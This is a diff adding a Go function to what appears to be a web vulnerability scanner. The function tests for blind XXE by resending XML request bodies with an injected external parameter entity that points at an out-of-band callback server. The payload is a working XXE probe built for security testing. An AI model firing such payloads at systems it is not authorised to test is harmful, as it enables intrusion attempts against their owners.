@@ -0,0 +1,46 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"os"
+	"regexp"
+	"strings"
+)
+
+var (
+	xmlPrologRe = regexp.MustCompile(`^\s*<\?xml[^>]*\?>`)
+	xmlRootRe   = regexp.MustCompile(`<([A-Za-z_][\w:.-]*)`)
+)
+
+// isXMLBody reports whether a request body looks like an XML document.
+func isXMLBody(body string) bool {
+	b := strings.TrimSpace(body)
+	return strings.HasPrefix(b, "<") && !strings.HasPrefix(strings.ToLower(b), "<html")
+}
+
+// detectBlindXXE resends r with an external parameter entity pointing at
+// the OOB server declared ahead of the original XML body. A callback for
+// the entity, found when the OOB server is polled, suggests blind XXE.
+func detectBlindXXE(client *http.Client, oob *oobTracker, r request, headers headerArgs) {
+	if !isXMLBody(r.body) {
+		return
+	}
+
+	doc := xmlPrologRe.ReplaceAllString(r.body, "")
+	root := "root"
+	if m := xmlRootRe.FindStringSubmatch(doc); m != nil {
+		root = m[1]
+	}
+
+	callback := oob.URL("XXE-BLIND-POSSIBLE", r.url, r.method)
+	payload := fmt.Sprintf(
+		"<?xml version=\"1.0\"?>\n<!DOCTYPE %s [<!ENTITY %% urlfetcher SYSTEM \"%s\"> %%urlfetcher;]>\n%s",
+		root, callback, strings.TrimSpace(doc),
+	)
+
+	_, _, err := probe(client, r.method, r.url, payload, headers)
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+	}
+}